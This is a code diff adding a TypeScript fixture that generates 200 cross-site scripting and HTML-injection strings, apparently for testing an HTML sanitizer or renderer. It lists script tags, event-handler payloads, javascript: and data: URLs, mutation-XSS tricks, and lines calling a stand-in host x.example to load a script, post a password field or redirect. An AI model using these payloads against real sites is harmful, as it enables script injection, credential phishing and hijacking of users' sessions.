@@ -1,0 +1,55 @@
+/** Markup and scripts as attackers write them, whole and in parts. */
+const BASES = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//x.example/a.js></sCrIpT>',
+  '<script\n>alert(1)</script\n>'.replaceAll('\n', ' '),
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)" />',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<body onload=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)">here</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">here</a>',
+  '<form action="https://x.example"><input name=password></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<math><mtext><script>alert(1)</script></mtext></math>',
+  '<style>*{background:url(//x.example)}</style>',
+  '<link rel=stylesheet href=//x.example/a.css>',
+  '<meta http-equiv=refresh content="0;url=//x.example">',
+  '<base href="//x.example/">',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea><script>alert(1)</script></textarea>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '</script><script>alert(1)</script>',
+  '</p></div><script>alert(1)</script>',
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '<!--<img src="--><img src=x onerror=alert(1)>">',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml version="1.0"?><x onclick=alert(1)>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '&#x3c;img src=x onerror=alert(1)&#x3e;',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${alert(1)}<b onmouseover=alert(1)>b</b>',
+  '<strong onclick=alert(1)>bold</strong>',
+] as const
+
+/** Around each: nothing, words, an open tag, a mark of bold, and an entity. */
+const AROUND: readonly ((payload: string) => string)[] = [
+  (payload) => payload,
+  (payload) => `Light ${payload} rooms`,
+  (payload) => `<b ${payload}`,
+  (payload) => `x**${payload}`,
+  (payload) => `&amp;${payload}&`,
+]
+
+/** 200 texts, each on one line. */
+export const PAYLOADS: readonly string[] = AROUND.flatMap((around) => BASES.map(around))
